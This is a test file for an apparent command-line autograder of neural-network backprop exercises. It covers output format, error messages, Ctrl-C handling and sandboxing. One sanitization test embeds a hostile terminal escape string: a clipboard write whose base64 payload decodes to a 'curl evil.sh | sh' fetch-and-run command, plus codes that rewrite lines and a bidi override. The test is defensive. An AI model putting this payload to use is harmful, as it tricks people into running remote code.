"""The `grade` command end to end: CliRunner for speed, a real subprocess for the installed entry point."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
from click.testing import CliRunner

from grader.cli.main import main
from grader.grading import runner, traps
from grader.show import plots
from grader.spec import catalogue
from tests.conftest import CORPUS, EXERCISES, NAMES_TXT, REFERENCE, ROOT, make_submission, with_snippet

ITEM_KEYS = {
    "id",
    "exercise",
    "name",
    "status",
    "exact",
    "approx",
    "maxdiff",
    "shape",
    "expected_shape",
    "traps",
    "message",
    "score",
    "max_score",
}


def run(*args):
    return CliRunner().invoke(main, [str(a) for a in args], catch_exceptions=False)


def test_reference_passes_every_item(reference_result):
    assert [i.status for i in reference_result.items] == ["passed"] * len(catalogue.items())
    assert all(i.traps == [] for i in reference_result.items)
    assert reference_result.score == reference_result.max_score == 42


def test_stubs_are_not_attempted():
    result = run("all", "--submission", EXERCISES, "--json")
    assert result.exit_code == 1
    counts = {}
    for item in json.loads(result.output)["items"]:
        counts.setdefault(item["exercise"], []).append(item["status"])
    assert {ex: (len(s), set(s)) for ex, s in counts.items()} == {
        "ex1": (26, {"not_attempted"}),
        "ex2": (1, {"not_attempted"}),
        "ex3": (1, {"not_attempted"}),
        "ex4": (8, {"not_attempted"}),
    }


def test_json_schema_and_order():
    result = run("all", "--submission", REFERENCE, "--json")
    assert result.exit_code == 0
    obj = json.loads(result.output)  # one object, nothing else on stdout
    assert set(obj) == {"submission", "score", "max_score", "items", "problems", "sandbox"} and obj["problems"] == []
    assert set(obj["sandbox"]) == {"backend", "missing", "missing_minimum"}  # the walls this machine gave
    assert [i["id"] for i in obj["items"]] == [i.id for i in catalogue.items()]
    assert obj["items"][-1]["id"] == "ex4.training" and obj["items"][0]["id"] == "ex1.dlogprobs"
    for item in obj["items"]:
        assert set(item) == ITEM_KEYS
        assert isinstance(item["exact"], bool) and isinstance(item["approx"], bool)
        assert isinstance(item["maxdiff"], float) and isinstance(item["traps"], list)
        assert item["score"] == item["max_score"] > 0
    dc = next(i for i in obj["items"] if i["id"] == "ex1.dC")
    assert dc["shape"] == dc["expected_shape"] == [27, 10]


def test_table_names_the_trap_and_the_rows(tmp_path):
    sub = with_snippet(tmp_path, "ex1", (CORPUS / "ex1" / "dC_fancy_index_add.py").read_text())
    result = run("ex1", "--submission", sub, "--only", "dC", "--hints", "--level", "hint")
    assert result.exit_code == 1
    assert "ex1.dC" in result.output and "FAILED" in result.output and "dC-repeated-rows" in result.output
    assert "looked up" in result.output and "index_add_" in result.output
    assert "why:" in result.output  # --hints
    assert "score 0/1" in result.output
    diagnose = run("ex1", "--submission", sub, "--only", "dC", "--hints")  # the default level: no code
    assert "looked up" in diagnose.output and "index_add_" not in diagnose.output and "dC[Xb]" not in diagnose.output
    assert "why: " + traps.TRAPS["dC-repeated-rows"].concept[:40] in " ".join(diagnose.output.split())


def test_lecture_dbnmeani_fails_only_on_shape(tmp_path):
    lecture = "def dbnmeani(dbndiff):\n    return (-dbndiff).sum(0)\n"
    result = run("ex1", "--submission", with_snippet(tmp_path, "ex1", lecture), "--json")
    items = {i["id"]: i for i in json.loads(result.output)["items"]}
    item = items["ex1.dbnmeani"]
    assert (item["status"], item["traps"], item["shape"]) == ("failed", ["shape-mismatch"], [64])
    assert "values are right; only the summed dimension 0 (of size 1) is missing" in item["message"]
    assert "keepdim=True" not in item["message"]  # the default level says what, not the code
    assert all(i["status"] == "passed" for k, i in items.items() if k != "ex1.dbnmeani")


def test_only_and_bad_arguments():
    assert run("ex1", "--submission", REFERENCE, "--only", "dC", "--only", "dW1").exit_code == 0
    bad = CliRunner().invoke(main, ["ex1", "--only", "dnope"])
    assert bad.exit_code == 2 and "dnope is not an item of ex1" in bad.output
    missing = CliRunner().invoke(main, ["ex1", "--submission", "/no/such/folder"])
    assert missing.exit_code == 2 and "/no/such/folder" in missing.output


def test_unknown_and_future_parameters_are_clear_errors(tmp_path):
    snippet = "def dprobs(probs, dcounts):\n    return probs\n\n\ndef dh(hidden):\n    return hidden\n"
    items = {
        i["id"]: i
        for i in json.loads(run("ex1", "-s", with_snippet(tmp_path, "ex1", snippet), "--json").output)["items"]
    }
    assert items["ex1.dprobs"]["status"] == "error" and "later in backprop order" in items["ex1.dprobs"]["message"]
    assert items["ex1.dh"]["status"] == "error" and "Ask for any of:" in items["ex1.dh"]["message"]
    assert "dlogits" in items["ex1.dh"]["message"]


def test_missing_file_and_missing_function(tmp_path):
    sub = make_submission(tmp_path, {"ex2.py": "import torch\n"}, base=None)
    obj = json.loads(run("all", "-s", sub, "--json").output)
    by = {i["id"]: i for i in obj["items"]}
    assert by["ex1.dC"]["status"] == "not_attempted" and "No ex1.py" in by["ex1.dC"]["message"]
    assert by["ex2.dlogits"]["status"] == "not_attempted" and "no function `dlogits`" in by["ex2.dlogits"]["message"]


@pytest.mark.skipif(not NAMES_TXT.exists(), reason="the lecture's names.txt is not on this machine")
def test_data_option_regrades_on_the_lecture_names():
    result = run("ex2", "--submission", REFERENCE, "--data", NAMES_TXT, "--json")
    assert result.exit_code == 0 and json.loads(result.output)["score"] == 2


def test_real_subprocess_entry_points():
    for cmd in ([sys.executable, "-m", "grader"], ["grade"]):
        proc = subprocess.run(
            [*cmd, "ex3", "--submission", str(REFERENCE), "--json"],
            capture_output=True,
            text=True,
            cwd=ROOT,
            timeout=120,
        )
        assert proc.returncode == 0, proc.stderr
        assert json.loads(proc.stdout)["items"][0]["id"] == "ex3.dhprebn"
    stubs = subprocess.run(["grade", "ex1"], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert stubs.returncode == 1 and "score 0/26: 26 not attempted" in stubs.stdout


def test_ctrl_c_while_torch_is_imported_says_aborted_without_a_traceback():
    """A student who presses Ctrl-C in the first second (torch still importing) sees what click says later."""
    import os
    import signal
    import time

    from grader.cli import ABORTED

    proc = subprocess.Popen(
        [sys.executable, "-m", "grader", "ex1", "--submission", str(REFERENCE)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=ROOT,
        start_new_session=True,  # its own process group: the terminal's Ctrl-C reaches every process of it
    )
    time.sleep(0.3)  # past the interpreter's start, long before torch is imported (it once swallowed this one)
    os.killpg(proc.pid, signal.SIGINT)
    out, err = proc.communicate(timeout=60)
    assert (proc.returncode, out, err) == (1, "", f"\n{ABORTED}\n")  # nothing graded, no traceback


@pytest.mark.skipif(sys.platform != "linux", reason="grade batch needs Linux")
def test_ctrl_c_while_a_batch_starts_says_aborted_and_writes_no_gradebook(tmp_path):
    """`grade batch` imports torch once its class is found: a Ctrl-C then (which the import may swallow) ends it."""
    import os
    import signal
    import time

    from grader.cli import ABORTED

    subs, out = tmp_path / "subs", tmp_path / "out"
    make_submission(subs / "ada", base=REFERENCE)
    proc = subprocess.Popen(
        [sys.executable, "-m", "grader", "batch", str(subs), "--out", str(out), "--no-similarity"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=ROOT,
        start_new_session=True,
    )
    time.sleep(0.5)  # the class is found, torch is being imported
    os.killpg(proc.pid, signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    assert (proc.returncode, err.endswith(f"\n{ABORTED}\n"), "Traceback" in err) == (1, True, False), err[-1500:]
    assert not (out / "summary.json").exists() and not (out / "gradebook.csv").exists()


@pytest.mark.skipif(sys.platform != "linux", reason="the fork backend, which forks ahead, is Linux's")
def test_a_ctrl_c_that_an_import_swallows_still_ends_the_run(monkeypatch, capsys):
    """torch's import swallows a Ctrl-C that lands in its import of numpy (numpy may be left half-built): the
    command must end all the same, not go on to grade and blame the student's code."""
    import os
    import signal
    import time

    import grader.cli
    import grader.cli.main

    def swallowing(argv):  # what torch's import did with it
        try:
            os.kill(os.getpid(), signal.SIGINT)
            time.sleep(1)
        except KeyboardInterrupt:
            pass

    monkeypatch.setattr(grader.cli, "_fork_ahead", swallowing)
    monkeypatch.setattr(grader.cli.main, "run", lambda: pytest.fail("the command ran after the Ctrl-C"))
    monkeypatch.setattr(sys, "argv", ["grade", "ex1"])
    monkeypatch.setenv("GRADER_SANDBOX", "fork")
    before = signal.getsignal(signal.SIGINT)
    with pytest.raises(SystemExit) as ended:
        grader.cli.run()
    assert ended.value.code == 1 and capsys.readouterr().err == f"\n{grader.cli.ABORTED}\n"
    assert signal.getsignal(signal.SIGINT) is before and not grader.cli._INTERRUPTED  # nothing left for a later run
    grader.cli.imports_done()  # a later command in this process (grade batch calls it) is not aborted by this one


@pytest.mark.skipif(sys.platform != "linux", reason="the fork backend, which forks ahead, is Linux's")
@pytest.mark.parametrize("where", ["as the handler is put back", "as the command ends"])
def test_a_ctrl_c_outside_clicks_own_handling_says_aborted_without_a_traceback(where, monkeypatch, capsys):
    """A Ctrl-C delivered in the instant the noting handler gives way to Python's (a served run in CI printed a
    KeyboardInterrupt traceback from there), or just after click's command returned: "Aborted!", status 1."""
    import signal

    import grader.cli
    import grader.cli.main

    real_done = grader.cli.imports_done

    def put_back_then_interrupted():
        real_done()
        raise KeyboardInterrupt  # what Python's own handler, back in place, raises for the Ctrl-C

    def command_then_interrupted():
        raise KeyboardInterrupt

    monkeypatch.setattr(grader.cli, "_fork_ahead", lambda argv: None)
    if where == "as the handler is put back":
        monkeypatch.setattr(grader.cli, "imports_done", put_back_then_interrupted)
        monkeypatch.setattr(grader.cli.main, "run", lambda: pytest.fail("the command ran after the Ctrl-C"))
    else:
        monkeypatch.setattr(grader.cli.main, "run", command_then_interrupted)
    monkeypatch.setattr(sys, "argv", ["grade", "ex1"])
    monkeypatch.setenv("GRADER_SANDBOX", "fork")
    monkeypatch.setenv("GRADER_WARM", "0")
    before = signal.getsignal(signal.SIGINT)
    with pytest.raises(SystemExit) as ended:
        grader.cli.run()
    assert ended.value.code == 1 and capsys.readouterr().err == f"\n{grader.cli.ABORTED}\n"
    assert signal.getsignal(signal.SIGINT) is before


def _descendants(pid: int) -> list[tuple[int, str]]:
    """Return (pid, name) of every process below pid, from /proc."""
    import os

    parent_of = {}
    for entry in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{entry}/stat") as f:
                stat = f.read()
        except OSError:  # ended meanwhile
            continue
        name, rest = stat[stat.index("(") + 1 : stat.rindex(")")], stat[stat.rindex(")") + 2 :].split()
        parent_of[int(entry)] = (int(rest[1]), name)
    below, found = {pid}, []
    for _ in range(6):
        for child, (parent, name) in parent_of.items():
            if parent in below and child not in below:
                below.add(child)
                found.append((child, name))
    return found


@pytest.mark.parametrize("mode", ["root", "normal-user", "no-cap-sys-admin", "pid-1"])
def test_ctrl_c_while_grading_says_aborted_once_in_every_mode(tmp_path, mode):
    """Ctrl-C reaches every process of grade's group: as a normal user, the helper that makes a sandbox's user
    namespace once raised it too, and unwound the grader's code a second time ("Aborted!" twice). The sandbox
    here is the second of the run (ex1's crashed), forked once the command runs, not the one forked ahead."""
    import os
    import shutil
    import signal
    import time

    from grader.cli import ABORTED
    from tests.test_modes import TOOLS, _wrap

    if sys.platform != "linux" or os.getuid() != 0:
        pytest.skip("the four modes are made from root on Linux (as CI runs)")
    if mode in TOOLS and shutil.which(TOOLS[mode]) is None:
        pytest.skip(f"{TOOLS[mode]} is not installed")
    files = {"ex1.py": "import torch\n\ntorch.os._exit(3)\n", "ex2.py": "import time\n\ntime.sleep(60)\n"}
    slow = make_submission(tmp_path / "slow", files, base=None)
    for folder in (tmp_path, slow):
        folder.chmod(0o755)
    command = [sys.executable, "-m", "grader", "all", "--submission", str(slow), "--timeout", "90"]
    proc = subprocess.Popen(
        _wrap(mode, command),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=ROOT,
        start_new_session=True,
    )
    seen: set = set()
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:  # until a second sandbox runs: ex2's, which sleeps in its file
        seen |= {p for p, n in _descendants(proc.pid) if n == "grade-sandbox"}
        if len(seen) >= 2:
            break
        time.sleep(0.02)
    time.sleep(0.5)
    ours = os.readlink(f"/proc/{proc.pid}/fd/1")  # the pipe this test reads grade's output from
    # none of grade's helpers holds it (a reader would wait for them to end too): the truth server, the sandbox and,
    # as a normal user, the helper that made its user namespace
    held = {
        (n, fd)
        for p, n in _descendants(proc.pid)
        if n.startswith("grade-")
        for fd in (1, 2)
        if os.readlink(f"/proc/{p}/fd/{fd}") == ours
    }
    os.killpg(proc.pid, signal.SIGINT)
    out, err = proc.communicate(timeout=60)
    assert len(seen) >= 2 and not held, (held, out[-500:], err[-1500:])
    assert (proc.returncode, err.count(ABORTED), "score" in out) == (1, 1, False), (out[-500:], err[-1500:])


def test_grade_exN_asks_a_truth_server_forked_ahead_and_forks_no_helper():
    """`grade exN` forks the truth server with its sandbox, before reading the submission; the lecture's truth is
    built there meanwhile, and the hidden geometries' when asked: no helper is forked for the truth."""
    from grader.cli import _lecture_keys
    from grader.truth import fixture

    for command in ("ex1", "ex2", "ex3", "ex4", "all"):  # what the grading will ask the server for, unasked
        asked = {
            (g, None, c.ex4)
            for c in catalogue.select(catalogue.EXERCISES if command == "all" else (command,))
            for g in catalogue.geometries(c, None)
        }
        assert set(_lecture_keys([command, "--json"])) == asked, command
    assert (fixture.EX4_PRIMARY, None, True) in _lecture_keys(["all"])
    assert _lecture_keys(["ex2", "--data", "names.txt"]) == _lecture_keys(["ex2", "--data=names.txt"]) == []
    script = (
        "import json\n"
        "from grader import cli\n"
        "from grader.truth import server\n"
        "forked, real = [], server.fork_helper\n"
        "server.fork_helper = lambda todo: forked.append(len(todo)) or real(todo)\n"
        "cli._fork_ahead(['all'])\n"
        "from grader.grading.runner import grade\n"
        f"result = grade({str(REFERENCE)!r}, sandbox=cli.take_ahead())\n"
        "print(json.dumps({'serving': server.serving(), 'forked': forked, 'passed': result.passed}))\n"
    )
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, cwd=ROOT, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert json.loads(proc.stdout.splitlines()[-1]) == {"serving": True, "forked": [], "passed": True}


def test_a_lone_child_warms_itself_before_its_jail(tmp_path):
    """`grade ex1` forks one child and leaves torch's lazy first calls to it: they must run before the jail."""
    lazy = (
        "\n\nimport numpy as np\nimport torch.nn.functional as F\n\n\n"
        "def dC(C, Xb, demb):\n"
        "    onehot = F.one_hot(Xb.view(-1), num_classes=C.shape[0]).float()  # (n*block_size, vocab)\n"
        "    return onehot.T @ demb.view(-1, C.shape[1])\n\n\n"
        "def db2(dlogits):\n"
        "    return torch.from_numpy(np.asarray(dlogits.numpy()).sum(0))\n"
    )
    (tmp_path / "ex1.py").write_text((REFERENCE / "ex1.py").read_text() + lazy)
    proc = subprocess.run(
        [sys.executable, "-m", "grader", "ex1", "--submission", str(tmp_path), "--json"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
    )
    assert proc.returncode == 0, proc.stderr
    by = {i["id"]: i for i in json.loads(proc.stdout)["items"]}
    assert by["ex1.dC"]["status"] == "passed" and by["ex1.db2"]["status"] == "passed", (by["ex1.dC"], by["ex1.db2"])


def test_full_training_runs_in_the_sandbox(tmp_path, monkeypatch):
    monkeypatch.setenv("GRADER_CACHE", str(tmp_path / "cache"))  # the reference curve's cache: never the user's own
    curve = tmp_path / "curve.png"
    result = run("ex4", "--submission", REFERENCE, "--full", "--steps", "300", "--json", "--curve", curve)
    assert result.exit_code == 0
    training = json.loads(result.stdout)["training"]
    assert training["steps"] == 300 and 2.0 < training["val_loss"] < 3.3 and len(training["samples"]) == 20
    if plots_available():
        assert f"wrote {curve}: your loss curve beside autograd's" in result.stderr
        assert training["plot"] == str(curve) and curve.read_bytes()[:4] == b"\x89PNG"


def plots_available() -> bool:
    try:
        import matplotlib.figure  # noqa: F401
    except ImportError:
        return False
    return True


def test_plots(tmp_path):
    pytest.importorskip("matplotlib")
    sub = with_snippet(tmp_path / "sub", "ex1", (CORPUS / "ex1" / "dC_fancy_index_add.py").read_text())
    png = tmp_path / "dc.png"
    assert run("ex1", "-s", sub, "--only", "dC", "--plot", png).exit_code == 1
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    png2 = tmp_path / "dlogits.png"
    assert run("ex2", "-s", REFERENCE, "--plot", png2).exit_code == 0
    assert png2.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


# ---------------------------------------------------------------------------------------------------------------
# issue 11: one precise message per mistake


def _table(*args):
    result = run(*args)
    return result, " ".join(result.stdout.split())  # the table with its wrapping undone


@pytest.mark.parametrize(
    ("source", "says", "line"),
    [
        ("import torch\n\n\ndef dlogprobs(logprobs:\n    return logprobs\n", "SyntaxError", 4),
        ("import torch\nimport matplotlib.pyplot as plt\n", "Delete that import from ex1.py", 2),
    ],
)
def test_a_broken_file_is_said_once_above_the_table(tmp_path, source, says, line):
    sub = make_submission(tmp_path, {"ex1.py": source}, base=None)
    result, text = _table("ex1", "-s", sub)
    assert result.exit_code == 1
    assert text.count(says) == 1, result.stdout
    first = result.stdout.splitlines()[0]
    assert first.startswith("ex1.py (26 items ERROR): ex1.py could not be loaded") and f"(line {line}" in first
    assert text.index(says) < text.index("item status")  # above the table
    obj = json.loads(run("ex1", "-s", sub, "--json").stdout)
    assert [p["items"] for p in obj["problems"]] == [[i.id for i in catalogue.items(["ex1"])]]


def test_a_missing_file_is_said_in_the_table(tmp_path):
    sub = make_submission(tmp_path, {"ex2.py": (REFERENCE / "ex2.py").read_text()}, base=None)
    result, text = _table("ex3", "-s", sub)
    assert "ex3.py (1 item todo): No ex3.py was found in the submission." in text


def test_print_output_is_shown_for_failed_items(tmp_path):
    snippet = "def db2(dlogits):\n    print('db2 shape', dlogits.sum(0).shape)\n    return dlogits.sum(0) * 2\n"
    result, text = _table("ex1", "-s", with_snippet(tmp_path, "ex1", snippet), "--only", "db2")
    assert "FAILED" in text and "it printed: db2 shape torch.Size([27])" in text


def test_ex4_returning_the_lecture_list_is_said_once(tmp_path):
    snippet = (
        "def backward(C, W1, b1, W2, b2, bngain, bnbias):\n"
        "    return [torch.zeros_like(p) for p in (C, W1, b1, W2, b2, bngain, bnbias)]\n"
    )
    result, text = _table("ex4", "-s", with_snippet(tmp_path, "ex4", snippet))
    message = runner.not_a_dict("list")
    assert text.count(message) == 1 and "dC, dW1, db1, dW2, db2, dbngain, dbnbias" in message
    assert text.count("ERROR") == 9  # 8 rows and the line above the table
    assert result.stdout.startswith("ex4.py (8 items ERROR): backward returned a list")


def test_points_are_shown_and_explained():
    result, text = _table("ex4", "-s", REFERENCE)
    assert result.exit_code == 0 and "ex4.training passed 3/3" in text and "score 10/10: 8 passed" in text
    assert "an item scores its points only when it passes; each is worth 1 except ex4.training (3)." in text
    ex2, text2 = _table("ex2", "-s", REFERENCE)
    assert "ex2.dlogits passed 2/2" in text2 and "points:" not in text2  # one item: the column says it all


def test_level_option_and_the_course_cap(tmp_path):
    sub = with_snippet(tmp_path / "sub", "ex1", (CORPUS / "ex1" / "dhpreact_tanh_preact.py").read_text())
    _, default = _table("ex1", "-s", sub, "--only", "dhpreact")
    _, hint = _table("ex1", "-s", sub, "--only", "dhpreact", "--level", "hint")
    _, full = _table("ex1", "-s", sub, "--only", "dhpreact", "--level", "full")
    assert "1 - h**2" not in default and "1 - h**2" in hint and "dhpreact = (1 - h**2) * dh" in full
    course = tmp_path / "course.toml"
    course.write_text('level = "hint"\n')
    capped = run("ex1", "-s", sub, "--only", "dhpreact", "--level", "full", "--course", course)
    assert "dhpreact = (1 - h**2) * dh" not in capped.stdout and "1 - h**2" in capped.stdout
    assert "this course's messages go up to hint" in capped.stderr


def test_help_lists_student_commands_first():
    out = run("--help").output
    student, instructor = out.index("Student commands"), out.index("Instructor commands")
    assert student < instructor
    assert all(student < out.index(f"  {c} ") < instructor for c in ("ex1", "ex4", "all"))
    assert all(out.index(f"  {c} ") > instructor for c in ("batch", "gradescope", "release"))


def test_bad_training_options_are_refused():
    curve = run("ex4", "-s", REFERENCE, "--curve", "c.png")
    assert curve.exit_code == 2 and "add --full" in curve.output
    steps = run("ex4", "-s", REFERENCE, "--full", "--steps", "-5")
    assert steps.exit_code == 2 and "--steps" in steps.output


def test_run_from_another_directory_says_where_it_looked(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = run("ex1")
    assert result.exit_code == 2
    assert f"no exercises/ folder in {tmp_path}" in " ".join(result.output.split())
    assert "--submission PATH" in result.output and "Invalid value for --submission" not in result.output


def test_plot_without_matplotlib_prints_the_table_then_the_fix(tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "matplotlib.figure", None)
    sub = with_snippet(tmp_path, "ex1", (CORPUS / "ex1" / "dC_fancy_index_add.py").read_text())
    result = run("ex1", "-s", sub, "--only", "dC", "--plot", tmp_path / "d.png")
    assert result.exit_code == 1 and "score 0/1" in result.stdout
    assert result.stderr.strip() == f"--plot: no picture written; {plots.MISSING}"
    assert result.output.index("score 0/1") < result.output.index(plots.MISSING)


def test_grade_reads_a_folder_as_python_does_and_refuses_links(tmp_path):
    sub = make_submission(tmp_path / "sub")
    (sub / "ex2.py").write_bytes(b"\xef\xbb\xbf" + (REFERENCE / "ex2.py").read_bytes().replace(b"\n", b"\r\n"))
    (sub / "ex3.py").unlink()
    (sub / "ex3.py").symlink_to(REFERENCE / "ex3.py")  # the solution, by link: never read
    result = run("all", "--submission", sub, "--only", "dlogits", "--only", "dhprebn", "--json")
    items = {i["id"]: i for i in json.loads(result.stdout)["items"]}
    assert items["ex2.dlogits"]["status"] == "passed"
    assert items["ex3.dhprebn"]["status"] == "error" and "could not be read" in items["ex3.dhprebn"]["message"]


def test_a_data_file_too_small_is_a_usage_error_not_a_traceback(tmp_path):
    small = tmp_path / "names.txt"
    small.write_text("emma\nolivia\n")
    result = CliRunner().invoke(main, ["ex4", "--full", "--steps", "10", "--data", str(small)])
    assert result.exit_code == 2 and "2 names; at least 100 are needed" in result.output
    assert "Traceback" not in result.output


def test_what_a_submission_prints_or_raises_reaches_the_terminal_without_controls(tmp_path):
    """Output and exception text come from the student: no escape sequence, carriage return or bidi override of
    theirs reaches the terminal of whoever runs `grade` (a clipboard write, rows rewritten, a hidden link)."""
    hostile = "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07\\x1b[1A\\x1b[2K\\r\\u202e"
    snippet = f'def dh(dlogits, W2):\n    print("{hostile}ok")\n    raise ValueError("{hostile}bad")\n'
    sub = with_snippet(tmp_path / "sub", "ex1", snippet)
    res = CliRunner().invoke(main, ["ex1", "--submission", str(sub), "--only", "dh"])
    assert res.exit_code == 1, res.output
    assert "it printed: \\x1b]52;c;" in res.output and "bad" in res.output
    for control in ("\x1b", "\x07", "\r", "\u202e"):
        assert control not in res.output, repr(control)


def test_each_calls_prints_stay_with_that_call(tmp_path):
    """The hidden call is sent while the graded one is judged: its prints must not land under the graded call's."""
    snippet = "def db2(dlogits):\n    print('rows', dlogits.shape[0])\n    return dlogits.sum(0) * 2\n"
    sub = with_snippet(tmp_path, "ex1", snippet)
    for _ in range(5):  # the race this pins lost about one run in three
        printed = [line.strip() for line in run("ex1", "--submission", sub, "--only", "db2").stdout.splitlines()]
        assert [line for line in printed if line.startswith("it printed")] == ["it printed: rows 32"], printed
